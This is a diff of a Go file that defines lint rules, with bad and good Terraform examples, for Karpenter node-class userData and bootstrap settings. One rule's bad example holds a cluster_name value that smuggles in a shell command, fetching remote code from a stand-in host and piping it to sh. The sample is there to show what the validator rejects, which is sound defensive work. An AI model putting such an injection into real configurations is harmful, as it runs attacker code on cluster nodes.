@@ -8,37 +8,44 @@ import (
 
 const category = "userData"
 
-// nodeClass renders a docs example: a karpenter_ec2nodeclass with an
-// amiFamily and a heredoc user_data (the other required arguments elided).
-func nodeClass(family, userData string) string {
-	var b strings.Builder
-	b.WriteString("resource \"karpenter_ec2nodeclass\" \"x\" {\n  # name, role, selector terms ...\n")
-	b.WriteString("  ami_family = \"" + family + "\"\n  user_data  = <<-EOT\n")
-	for _, l := range strings.Split(strings.TrimSuffix(userData, "\n"), "\n") {
-		if l == "" {
-			b.WriteString("\n")
-			continue
-		}
-		b.WriteString("    " + l + "\n")
-	}
-	b.WriteString("  EOT\n}\n")
-	return b.String()
+// classWith renders a docs example: a karpenter_ec2nodeclass with the
+// given arguments and blocks (the other required arguments elided).
+func classWith(items ...string) string {
+	return rules.Block(`resource "karpenter_ec2nodeclass" "x"`, append([]string{"# name, role, selector terms ..."}, items...)...) + "\n"
 }
 
-// bootstrapClass renders a docs example using the bootstrap block.
-func bootstrapClass(body string) string {
-	var b strings.Builder
-	b.WriteString("resource \"karpenter_ec2nodeclass\" \"x\" {\n  # name, role, selector terms ...\n  ami_family = \"Custom\"\n  bootstrap {\n")
-	for _, l := range strings.Split(strings.TrimSuffix(body, "\n"), "\n") {
-		b.WriteString("    " + l + "\n")
-	}
-	b.WriteString("  }\n}\n")
-	return b.String()
+// poolWith renders a karpenter_nodepool with the given arguments and
+// blocks (the others elided).
+func poolWith(items ...string) string {
+	return rules.Block(`resource "karpenter_nodepool" "x"`, append([]string{"# ..."}, items...)...) + "\n"
 }
+
+// nodeClass renders a class with an amiFamily and a heredoc user_data.
+func nodeClass(family, userData string) string {
+	var b strings.Builder
+	b.WriteString("user_data = <<-EOT\n")
+	for _, l := range strings.Split(strings.TrimSuffix(userData, "\n"), "\n") {
+		if l != "" {
+			b.WriteString("  " + l)
+		}
+		b.WriteString("\n")
+	}
+	b.WriteString("EOT")
+	return classWith(`ami_family = "`+family+`"`, b.String())
+}
+
+// bootstrapClass renders a Custom class with a bootstrap block of the
+// given arguments and blocks.
+func bootstrapClass(items ...string) string {
+	return classWith(`ami_family = "Custom"`, rules.Block("bootstrap", items...))
+}
+
+// teamTaint is the taint the examples move out of userData.
+var teamTaint = []string{`key = "team"`, `value = "a"`, `effect = "NoSchedule"`}
 
 const (
 	al2Call    = "/etc/eks/bootstrap.sh my-cluster"
-	srcBootSh  = "amazon-eks-ami templates/al2/runtime/bootstrap.sh (the `while [[ $# -gt 0 ]]; case \"$1\"` loop); karpenter-reference §4.7"
+	srcBootSh  = "awslabs/amazon-eks-ami templates/al2/runtime/bootstrap.sh at 41298160, before AL2 was removed (the `while [[ $# -gt 0 ]]; case \"$1\"` loop)"
 	srcKubelet = "k8s.io/kubernetes pkg/util/taints/taints.go parseTaint, NewTaintsVar (--register-with-taints)"
 )
 
@@ -119,23 +126,23 @@ var (
 		ID: "kubelet-label-restricted", Severity: rules.Error, Category: category,
 		Title:     "kubernetes.io/k8s.io label passed to the kubelet",
 		Behaviour: "The kubelet refuses to start: `unknown 'kubernetes.io' or 'k8s.io' labels specified with --node-labels: [...]` / `--node-labels in the 'kubernetes.io' namespace must begin with an allowed prefix (kubelet.kubernetes.io, node.kubernetes.io) or be in the specifically allowed set (...)`.",
-		Source:    "k8s.io/kubernetes cmd/kubelet/app/options ValidateKubeletFlags; karpenter-reference §5.2 \"Kubelet side\"",
+		Source:    "k8s.io/kubernetes cmd/kubelet/app/options ValidateKubeletFlags (--node-labels)",
 		Bad:       nodeClass("Custom", "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--node-labels=node-role.kubernetes.io/worker=true --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
-		Good:      "# Put the label on the NodePool instead; Karpenter applies kubernetes.io labels to the Node after registration.\nresource \"karpenter_nodepool\" \"x\" {\n  # ...\n  labels = { \"node-role.kubernetes.io/worker\" = \"true\" }\n}\n",
+		Good:      "# Put the label on the NodePool instead; Karpenter applies kubernetes.io labels to the Node after registration.\n" + poolWith(`labels = { "node-role.kubernetes.io/worker" = "true" }`),
 	})
 	ruleLabelInvalid = rules.Register(rules.Rule{
 		ID: "kubelet-label-invalid", Severity: rules.Error, Category: category,
 		Title:     "node label the kubelet rejects",
 		Behaviour: "The kubelet validates --node-labels (key a qualified name, value a label value) and exits with `invalid node labels: ...`; in a rendered script an unvalidated value could also break the quoting.",
 		Source:    "k8s.io/kubernetes cmd/kubelet/app/options ValidateKubeletFlags",
-		Bad:       bootstrapClass("format       = \"bootstrap.sh\"\ncluster_name = \"my-cluster\"\nnode_labels  = { team = \"a b\" }"),
-		Good:      bootstrapClass("format       = \"bootstrap.sh\"\ncluster_name = \"my-cluster\"\nnode_labels  = { team = \"a-b\" }"),
+		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `node_labels = { team = "a b" }`),
+		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `node_labels = { team = "a-b" }`),
 	})
 	ruleUnregisteredMissing = rules.Register(rules.Rule{
 		ID: "unregistered-taint-missing", Severity: rules.Error, Category: category,
 		Title:     "Custom userData does not register karpenter.sh/unregistered:NoExecute",
 		Behaviour: "Karpenter injects nothing into Custom userData. Before 1.3 a node without the taint fails registration (`missing required startup taint, karpenter.sh/unregistered`) and the NodeClaim is deleted after the 15-minute registration timeout, in a loop; from 1.3 Karpenter emits the event UnregisteredTaintMissing and pods can land before labels and taints are synced. Only what reaches the kubelet counts: the last --kubelet-extra-args of a bootstrap.sh call, the last --register-with-taints, a NodeConfig flag over registerWithTaints, the -KubeletExtraArgs of Start-EKSBootstrap.ps1; the taint written in a comment, an echo or a here-document does not. Variables the script assigns are followed; a value only known at boot (a command substitution, an environment variable) gets a warning that the check could not be made.",
-		Source:    "sigs.k8s.io/karpenter pkg/controllers/nodeclaim/lifecycle/registration.go; PR #1991; karpenter-reference §4.5-4.6",
+		Source:    "sigs.k8s.io/karpenter pkg/controllers/nodeclaim/lifecycle/registration.go; PR #1991; aws/karpenter-provider-aws pkg/providers/amifamily/bootstrap/custom.go",
 		Bad:       nodeClass("Custom", "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/uninitialized:NoExecute'\n"),
 		Good:      nodeClass("Custom", "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
 	})
@@ -143,9 +150,9 @@ var (
 		ID: "nodeconfig-register-with-taints-flag", Severity: rules.Error, Category: category,
 		Title:     "NodeConfig kubelet.flags sets --register-with-taints",
 		Behaviour: "nodeadm appends kubelet.flags to the kubelet command line, and command-line flags override the config file: the flag replaces Karpenter's registerWithTaints, dropping karpenter.sh/unregistered and the NodePool taints (non-Custom nodes get taints only from userData). A flag inside a longer entry (`--node-labels=a=b --register-with-taints=...`) counts too: nodeadm writes the flags into NODEADM_KUBELET_ARGS, which systemd splits at whitespace.",
-		Source:    "amazon-eks-ami nodeadm internal/kubelet (flags vs config); Karpenter nodeadm.go; karpenter-reference §4.2",
+		Source:    "awslabs/amazon-eks-ami nodeadm/internal/kubelet/environment.go (flags), nodeadm/internal/api/merge.go; aws/karpenter-provider-aws pkg/providers/amifamily/bootstrap/nodeadm.go",
 		Bad:       nodeClass("AL2023", "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    flags:\n      - --register-with-taints=team=a:NoSchedule\n"),
-		Good:      "# Put the taint on the NodePool; Karpenter renders it into registerWithTaints.\nresource \"karpenter_nodepool\" \"x\" {\n  # ...\n  taints = [{ key = \"team\", value = \"a\", effect = \"NoSchedule\" }]\n}\n",
+		Good:      "# Put the taint on the NodePool; Karpenter renders it into registerWithTaints.\n" + poolWith(rules.Block("taints", teamTaint...)),
 	})
 	ruleNodeConfigOverridden = rules.Register(rules.Rule{
 		ID: "nodeconfig-field-overridden", Severity: rules.Warning, Category: category,
@@ -153,7 +160,7 @@ var (
 		Behaviour: "Karpenter appends its own NodeConfig last; nodeadm merges later documents over earlier ones and replaces lists, so the user's cluster details, maxPods and registerWithTaints are discarded.",
 		Source:    "amazon-eks-ami nodeadm internal/api/merge.go; Karpenter nodeadm.go getNodeConfigYAML",
 		Bad:       nodeClass("AL2023", "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n      maxPods: 42\n"),
-		Good:      "resource \"karpenter_ec2nodeclass\" \"x\" {\n  # name, role, selector terms ...\n  ami_family = \"AL2023\"\n  kubelet = { max_pods = 42 }\n}\n",
+		Good:      classWith(`ami_family = "AL2023"`, `kubelet { max_pods = 42 }`),
 	})
 	ruleNodeConfigInvalid = rules.Register(rules.Rule{
 		ID: "nodeconfig-invalid", Severity: rules.Error, Category: category,
@@ -193,7 +200,7 @@ var (
 		Behaviour: "Karpenter replaces node-taints wholesale with the NodePool taints and karpenter.sh/unregistered; the user's taints never reach the node.",
 		Source:    "Karpenter bootstrap/bottlerocket.go (NodeTaints reset)",
 		Bad:       nodeClass("Bottlerocket", "[settings.kubernetes.node-taints]\nteam = [\"a:NoSchedule\"]\n"),
-		Good:      "resource \"karpenter_nodepool\" \"x\" {\n  # ...\n  taints = [{ key = \"team\", value = \"a\", effect = \"NoSchedule\" }]\n}\n",
+		Good:      poolWith(rules.Block("taints", teamTaint...)),
 	})
 	ruleBROverridden = rules.Register(rules.Rule{
 		ID: "bottlerocket-setting-overridden", Severity: rules.Warning, Category: category,
@@ -201,7 +208,7 @@ var (
 		Behaviour: "Karpenter sets cluster-name, api-server, cluster-certificate and max-pods from the cluster and spec.kubelet, whatever the userData says.",
 		Source:    "Karpenter bootstrap/bottlerocket.go Script",
 		Bad:       nodeClass("Bottlerocket", "[settings.kubernetes]\nmax-pods = 42\n"),
-		Good:      "resource \"karpenter_ec2nodeclass\" \"x\" {\n  # name, role, selector terms ...\n  ami_family = \"Bottlerocket\"\n  kubelet = { max_pods = 42 }\n}\n",
+		Good:      classWith(`ami_family = "Bottlerocket"`, `kubelet { max_pods = 42 }`),
 	})
 	ruleBRUnknown = rules.Register(rules.Rule{
 		ID: "bottlerocket-unknown-setting", Severity: rules.Warning, Category: category,
@@ -223,7 +230,7 @@ var (
 		ID: "userdata-not-run-by-cloud-init", Severity: rules.Error, Category: category,
 		Title:     "Custom userData in no format cloud-init runs (no #! line)",
 		Behaviour: "cloud-init picks a handler from the first line of userData that is not MIME: `#!` (a script), `#cloud-config`, `#include`, `#cloud-boothook`, `#part-handler`, `## template: jinja`, ... Anything else it types text/x-not-multipart, logs `Unhandled non-multipart (text/x-not-multipart) userdata` and runs nothing. Karpenter passes Custom userData unchanged, so a bootstrap.sh call without a #! line never runs and the node never joins (an error); other text is reported as a warning, since an AMI that does not boot with cloud-init may read its userData another way.",
-		Source:    "cloud-init cloudinit/handlers/__init__.py (type_from_starts_with, walker_callback); karpenter-reference §4.5",
+		Source:    "cloud-init cloudinit/handlers/__init__.py (type_from_starts_with, walker_callback); aws/karpenter-provider-aws pkg/providers/amifamily/bootstrap/custom.go",
 		Bad:       nodeClass("Custom", al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
 		Good:      nodeClass("Custom", "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
 	})
@@ -272,39 +279,39 @@ var (
 		Title:     "value cannot be placed safely into the bootstrap script",
 		Behaviour: "Cluster name, endpoint, CA and DNS address are written into single-quoted shell/PowerShell arguments; a quote, `$(`, backtick, whitespace or newline would end the quoting or change the command, and is never a valid cluster fact anyway.",
 		Source:    "Karpenter eksbootstrap.go/windows.go ('%s' formatting); EKS cluster name pattern",
-		Bad:       bootstrapClass("format       = \"bootstrap.sh\"\ncluster_name = \"my-cluster'; curl evil | sh; '\""),
-		Good:      bootstrapClass("format       = \"bootstrap.sh\"\ncluster_name = \"my-cluster\""),
+		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster'; curl evil | sh; '"`),
+		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`),
 	})
 	ruleCANotBase64 = rules.Register(rules.Rule{
 		ID: "cluster-ca-not-base64", Severity: rules.Error, Category: category,
 		Title:     "certificate authority is not base64",
 		Behaviour: "Karpenter base64-decodes the CA bundle for AL2023 and fails with `decoding CABundle`; bootstrap.sh pipes it through `base64 -d` and writes a broken ca.crt.",
 		Source:    "Karpenter bootstrap/nodeadm.go getNodeConfigYAML; bootstrap.sh",
-		Bad:       bootstrapClass("format                = \"nodeadm\"\ncluster_name          = \"my-cluster\"\ncertificate_authority = \"-----BEGIN CERTIFICATE-----...\""),
-		Good:      bootstrapClass("format                = \"nodeadm\"\ncluster_name          = \"my-cluster\"\ncertificate_authority = data.aws_eks_cluster.this.certificate_authority[0].data"),
+		Bad:       bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, `certificate_authority = "-----BEGIN CERTIFICATE-----..."`),
+		Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, `certificate_authority = data.aws_eks_cluster.this.certificate_authority[0].data`),
 	})
 	ruleCIDRMissing = rules.Register(rules.Rule{
 		ID: "cluster-cidr-missing", Severity: rules.Error, Category: category,
 		Title:     "NodeConfig needs the cluster service CIDR",
 		Behaviour: "Karpenter cannot render AL2023 userData without spec.cluster.cidr (`resolving cluster CIDR`, NodeClassNotReady); nodeadm also requires it to derive the cluster DNS address.",
 		Source:    "Karpenter bootstrap/nodeadm.go getNodeConfigYAML",
-		Bad:       bootstrapClass("format       = \"nodeadm\"\ncluster_name = \"my-cluster\""),
-		Good:      bootstrapClass("format       = \"nodeadm\"\ncluster_name = \"my-cluster\"\nservice_cidr = \"172.20.0.0/16\""),
+		Bad:       bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`),
+		Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, `service_cidr = "172.20.0.0/16"`),
 	})
 	ruleExtraArgInvalid = rules.Register(rules.Rule{
 		ID: "bootstrap-kubelet-arg-invalid", Severity: rules.Error, Category: category,
 		Title:     "kubelet_extra_args element that cannot be passed safely",
 		Behaviour: "Each element becomes one kubelet argument in a single-quoted shell value, a systemd Environment line or a NodeConfig flag; quotes, whitespace, `$` or backslashes would split or break it, and --register-with-taints/--node-labels would override the taints and labels the block registers (pflag: last flag wins).",
-		Source:    "systemd.service(5) \"Command lines\"; karpenter-reference §4.7",
-		Bad:       bootstrapClass("format             = \"bootstrap.sh\"\ncluster_name       = \"my-cluster\"\nkubelet_extra_args = [\"--register-with-taints=team=a:NoSchedule\"]"),
-		Good:      bootstrapClass("format               = \"bootstrap.sh\"\ncluster_name         = \"my-cluster\"\nregister_with_taints = [{ key = \"team\", value = \"a\", effect = \"NoSchedule\" }]"),
+		Source:    "systemd.service(5) \"Command lines\"; " + srcBootSh + " (30-kubelet-extra-args.conf)",
+		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `kubelet_extra_args = ["--register-with-taints=team=a:NoSchedule"]`),
+		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, rules.Block("register_with_taints", teamTaint...)),
 	})
 	ruleScriptUnsupported = rules.Register(rules.Rule{
 		ID: "bootstrap-script-unsupported", Severity: rules.Error, Category: category,
 		Title:     "bootstrap setting the bottlerocket format cannot express",
 		Behaviour: "Bottlerocket runs no shell userData and takes no free-form kubelet flags; pre/post scripts and kubelet_extra_args would be silently lost.",
 		Source:    "Bottlerocket settings API; this provider's bootstrap renderer",
-		Bad:       bootstrapClass("format                = \"bottlerocket\"\ncluster_name          = \"my-cluster\"\npre_bootstrap_script  = \"sysctl -w vm.max_map_count=262144\""),
+		Bad:       bootstrapClass(`format = "bottlerocket"`, `cluster_name = "my-cluster"`, `pre_bootstrap_script = "sysctl -w vm.max_map_count=262144"`),
 		Good:      "# Write the settings TOML yourself (e.g. settings.kernel.sysctl or a bootstrap container) in user_data.\n" + nodeClass("Custom", "[settings.kubernetes]\ncluster-name = \"my-cluster\"\n[settings.kubernetes.node-taints]\n\"karpenter.sh/unregistered\" = [\":NoExecute\"]\n[settings.kernel.sysctl]\n\"vm.max_map_count\" = \"262144\"\n"),
 	})
 	ruleScriptUnsafe = rules.Register(rules.Rule{
@@ -312,8 +319,8 @@ var (
 		Title:     "pre/post bootstrap script changes the bootstrap call",
 		Behaviour: "The scripts are placed before and after the bootstrap.sh call in one bash script; a trailing backslash, unterminated here-document or `exit` would swallow, alter or skip the call.",
 		Source:    "this provider's bootstrap renderer (the rendered script is parsed back and compared)",
-		Bad:       bootstrapClass("format               = \"bootstrap.sh\"\ncluster_name         = \"my-cluster\"\npre_bootstrap_script = \"yum install -y jq \\\\\""),
-		Good:      bootstrapClass("format               = \"bootstrap.sh\"\ncluster_name         = \"my-cluster\"\npre_bootstrap_script = \"yum install -y jq\""),
+		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `pre_bootstrap_script = "yum install -y jq \\"`),
+		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `pre_bootstrap_script = "yum install -y jq"`),
 	})
 )
 
@@ -322,6 +329,6 @@ var ruleInputMissing = rules.Register(rules.Rule{
 	Title:     "cluster fact the bootstrap format requires is missing",
 	Behaviour: "Without the cluster name the node cannot build its kubeconfig; nodeadm rejects a NodeConfig without name, apiServerEndpoint or certificateAuthority (`nodeadm init` fails validation) and Bottlerocket without cluster-name, api-server and cluster-certificate never joins.",
 	Source:    "amazon-eks-ami nodeadm api validation; Bottlerocket settings.kubernetes",
-	Bad:       bootstrapClass("format       = \"nodeadm\"\ncluster_name = \"my-cluster\"\nservice_cidr = \"172.20.0.0/16\""),
-	Good:      bootstrapClass("format                = \"nodeadm\"\ncluster_name          = \"my-cluster\"\napi_server_endpoint   = data.aws_eks_cluster.this.endpoint\ncertificate_authority = data.aws_eks_cluster.this.certificate_authority[0].data\nservice_cidr          = \"172.20.0.0/16\""),
+	Bad:       bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, `service_cidr = "172.20.0.0/16"`),
+	Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, `api_server_endpoint = data.aws_eks_cluster.this.endpoint`, `certificate_authority = data.aws_eks_cluster.this.certificate_authority[0].data`, `service_cidr = "172.20.0.0/16"`),
 })
